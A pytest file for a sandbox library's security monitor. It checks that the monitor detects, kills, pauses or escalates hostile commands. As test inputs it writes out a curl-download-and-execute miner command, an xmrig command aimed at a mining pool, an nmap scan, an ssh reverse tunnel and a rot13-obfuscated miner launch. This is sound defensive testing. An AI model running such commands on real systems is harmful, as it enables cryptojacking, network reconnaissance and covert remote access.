"""The monitor wired into real sandboxes: alerts, responses, audit."""

from __future__ import annotations

import pytest

import corral
from corral import Sandbox
from corral.audit import AuditLog, iter_entries
from corral.errors import SessionStopped
from corral.monitor import Monitor
from corral.policy import Callback


def test_issue_example_alerts_with_technique():
    with Sandbox(policy="default") as sb:
        r = sb.run(
            "curl -s http://x/m.sh -o m.sh; chmod +x m.sh; ./m.sh --url stratum+tcp://pool:3333"
        )
        assert r.exit_code == 126
        alerts = {a.rule: a for a in sb.alerts}
    assert "mining-stratum-url" in alerts
    a = alerts["mining-stratum-url"]
    assert a.severity == "critical" and a.technique == "T1496" and "stratum" in a.summary


def test_alerts_are_events_and_audited(tmp_path):
    bus = corral.EventBus()
    with AuditLog(tmp_path / "a.db") as log:
        log.attach(bus)
        with Sandbox(monitor=True, bus=bus) as sb:
            sb.run("nmap -sS 10.0.0.0/24")
    kinds = [e.body.get("type") for e in iter_entries(tmp_path / "a.db")]
    assert "monitor.alert" in kinds and "action.denied" in kinds
    assert corral.audit.verify(tmp_path / "a.db").ok


def test_kill_response_stops_the_session():
    with Sandbox(monitor=True) as sb:
        r = sb.run("xmrig -o stratum+tcp://pool.supportxmr.com:3333")
        assert r.exit_code == 126 and "the monitor stopped it" in r.stderr
        with pytest.raises(SessionStopped, match="killed by the monitor"):
            sb.run("echo still here?")
        with pytest.raises(SessionStopped):
            sb.python("print(1)")


def test_pause_response_and_resume():
    mon = Monitor(on={"critical": "pause", "high": "pause", "medium": "alert", "low": "log"})
    with Sandbox(monitor=mon) as sb:
        r = sb.run("ssh -R 9000:localhost:22 me@example.org")
        assert r.exit_code == 126
        with pytest.raises(SessionStopped, match="paused"):
            sb.run("echo x")
        sb.resume()
        assert sb.run("echo resumed").stdout == "resumed\n"


def test_ask_response_goes_to_the_approver():
    asked = []

    def answer(request):
        asked.append(request.decision.rule)
        return "allow_once"

    mon = Monitor(on={"critical": "kill", "high": "ask", "medium": "alert", "low": "log"})
    with Sandbox(policy="permissive", approver=Callback(answer), monitor=mon) as sb:
        r = sb.run("nmap --version; echo ran=$?")
        assert "ran=127" in r.stdout  # allowed by the person; nmap itself is not in the wasm tier
    assert any(rule.startswith("monitor:") for rule in asked)


def test_benign_work_raises_no_blocking_alert():
    with Sandbox(monitor=True) as sb:
        sb.files.write("data.csv", "a,b\n1,2\n")
        r = sb.run(
            "mkdir -p out && cut -d, -f1 data.csv | sort > out/a.txt && wc -l out/a.txt && "
            "grep -c 1 data.csv; python3 -c 'print(sum(range(10)))'"
        )
        assert r.exit_code == 0, r.stderr
        assert not [a for a in sb.alerts if a.blocking]


# "./worker -o stratum+tcp://pool.example:3333" in rot13, and the tr that decodes it
HIDDEN = "./jbexre -b fgenghz+gpc://cbby.rknzcyr:3333"
ROT13 = "A-Za-z N-ZA-Mn-za-m"


def test_obfuscated_miner_is_seen_at_exec_in_bwrap():
    from tests.test_native_sandbox import _available

    if not _available("bwrap"):
        pytest.skip("bubblewrap is not usable here")
    with Sandbox(backend="bwrap", monitor=True) as sb:
        # a miner's stratum URL, hidden (rot13: base64 -d into a file that is then run is
        # a sequence rule of its own), decoded in one call and run in the next: neither
        # script shows it; the real execve does, and is stopped
        sb.files.write("worker", "#!/bin/sh\necho hashing\n")
        sb.run(f"chmod +x worker; echo '{HIDDEN}' | tr {ROT13} > p.sh")
        r = sb.run("sh p.sh; echo rc=$?")
        assert "hashing" not in r.stdout, r.stdout
        assert any(a.rule == "mining-stratum-url" for a in sb.alerts), [a.rule for a in sb.alerts]


@pytest.mark.parametrize(
    "setup", [{"monitor": True}, {"policy": "default"}], ids=["monitor", "policy"]
)
def test_obfuscated_miner_is_killed_mid_run_in_gvisor(setup):
    import time

    from tests.test_native_sandbox import _available

    if not _available("gvisor"):
        pytest.skip("gVisor (runsc) is not usable here")
    # gVisor cannot hold a program start until it is decided (bwrap can): it sees the
    # execve as it happens and the monitor, on the bus, kills the run
    with Sandbox(backend="gvisor", **setup) as sb:
        sb.files.write("worker", "#!/bin/sh\necho hashing\nsleep 20\necho worked-20s\n")
        sb.run(f"chmod +x worker; echo '{HIDDEN}' | tr {ROT13} > p.sh")
        t0 = time.monotonic()
        r = sb.run("sh p.sh; echo after-the-miner")
        took = time.monotonic() - t0
        assert took < 10, took
        assert "worked-20s" not in r.stdout and "after-the-miner" not in r.stdout, r.stdout
        assert r.exit_code != 0
        assert any(a.rule == "mining-stratum-url" for a in sb.alerts), [a.rule for a in sb.alerts]
        with pytest.raises(SessionStopped, match="killed by the monitor"):
            sb.run("echo still here?")
